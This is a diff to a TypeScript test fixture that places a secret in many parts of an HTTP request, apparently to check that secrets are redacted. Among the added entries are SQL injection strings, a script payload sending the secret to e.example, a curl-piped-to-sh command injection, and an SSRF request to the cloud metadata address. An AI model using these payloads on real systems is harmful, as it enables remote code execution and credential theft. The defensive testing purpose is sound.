@@ -34,10 +34,10 @@ export const places: Readonly<Record<string, Make>> = {
   'query name': url((path, secret) => `${path}?${secret}=1`),
   'query twice': url((path, secret) => `${path}?id=1&id=${secret}`),
   'user information of the target': url((path, secret) => `http://ada:${secret}@api.example.com${path}`),
-  'fragment': url((path, secret) => `${path}#${secret}`),
-  'method': (secret, path) => `${secret} ${path} HTTP/1.1\r\n${host}\r\n`,
-  'version': (secret, path) => `GET ${path} HTTP/${secret}\r\n${host}\r\n`,
-  'host': (secret, path) => `GET ${path} HTTP/1.1\r\nHost: ${secret}.example.com\r\n\r\n`,
+  fragment: url((path, secret) => `${path}#${secret}`),
+  method: (secret, path) => `${secret} ${path} HTTP/1.1\r\n${host}\r\n`,
+  version: (secret, path) => `GET ${path} HTTP/${secret}\r\n${host}\r\n`,
+  host: (secret, path) => `GET ${path} HTTP/1.1\r\nHost: ${secret}.example.com\r\n\r\n`,
   'bearer token': get((secret) => `Authorization: Bearer ${secret}\r\n`),
   'DPoP proof': get((secret) => `Authorization: DPoP x\r\nDPoP: ${secret}\r\n`),
   'basic password': get((secret) => `Authorization: Basic ${basic(`ada:${secret}`)}\r\n`),
@@ -49,11 +49,11 @@ export const places: Readonly<Record<string, Make>> = {
   'header value': get((secret) => `X-Vendor: ${secret}\r\n`),
   'header name': get((secret) => `X-${secret}: 1\r\n`),
   'proxy authorization': get((secret) => `Proxy-Authorization: Bearer ${secret}\r\n`),
-  'referer': get((secret) => `Referer: https://app.example.com/reset?token=${secret}\r\n`),
+  referer: get((secret) => `Referer: https://app.example.com/reset?token=${secret}\r\n`),
   'user agent': get((secret) => `User-Agent: tool ${secret}\r\n`),
-  'origin': get((secret) => `Origin: https://${secret}.example.com\r\n`),
+  origin: get((secret) => `Origin: https://${secret}.example.com\r\n`),
   'request id': get((secret) => `X-Request-Id: ${secret}\r\n`),
-  'trace': get((secret) => `traceparent: 00-${secret}-01\r\ntracestate: a=${secret}\r\n`),
+  trace: get((secret) => `traceparent: 00-${secret}-01\r\ntracestate: a=${secret}\r\n`),
   'forwarded for': get((secret) => `X-Forwarded-For: ${secret}\r\nForwarded: for=${secret}\r\n`),
   'range and conditions': get((secret) => `If-None-Match: "${secret}"\r\nRange: bytes=${secret}\r\n`),
   'method override': get((secret) => `X-HTTP-Method-Override: ${secret}\r\n`),
@@ -69,6 +69,11 @@ export const places: Readonly<Record<string, Make>> = {
   'JSON that is broken': post('application/json', (secret) => `{"password":"${secret}",,}`),
   'JSON with a name twice': post('application/json', (secret) => `{"password":"a","password":"${secret}"}`),
   'beside an injection': json((secret) => ({ password: secret, q: "' or 1=1 --" })),
+  'name of what is an injection': json((secret) => ({ [secret]: "' or 1=1 --" })),
+  'query name of what is an injection': url((path, secret) => `${path}?${secret}=%27%20or%201=1%20--`),
+  'inside a script': url((path, secret) => `${path}?q=%3Cscript%3Efetch(%27//e.example/${secret}%27)%3C/script%3E`),
+  'inside a command': json((secret) => ({ q: `; curl -u ada:${secret} http://e.example | sh` })),
+  'inside an address': json((secret) => ({ q: `http://ada:${secret}@169.254.169.254/latest/meta-data` })),
   'inside an injection': json((secret) => ({ q: `' union select '${secret}' from users --` })),
   'form value': post('application/x-www-form-urlencoded', (secret) => `user=ada&password=${secret}`),
   'form name': post('application/x-www-form-urlencoded', (secret) => `${secret}=1`),
@@ -85,14 +90,14 @@ export const places: Readonly<Record<string, Make>> = {
   'GraphQL variable': json((secret) => ({ query: 'query($p: String) { a(p: $p) }', variables: { p: secret } })),
   'chunk extension': (secret, path) =>
     `POST ${path} HTTP/1.1\r\n${host}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2;t=${secret}\r\n{}\r\n0\r\n\r\n`,
-  'trailer': (secret, path) =>
+  trailer: (secret, path) =>
     `POST ${path} HTTP/1.1\r\n${host}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nX-Token: ${secret}\r\n\r\n`,
   'head that is malformed': get((secret) => `X-API-Key: ${secret}\r\nBad Header: x\r\n`),
   'head that is too large': get((secret) => `X-API-Key: ${secret}\r\nX-Pad: ${'a'.repeat(70_000)}\r\n`),
   'upload that ends early': (secret, path) =>
     `POST ${path} HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: 5000\r\n\r\n{"password":"${secret}"`,
   'no HTTP at all': (secret) => `\x16\x03\x01${secret}\r\n\r\n`,
-  'upgrade': get(
+  upgrade: get(
     (secret) =>
       `Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: ${secret}\r\n`,
   ),
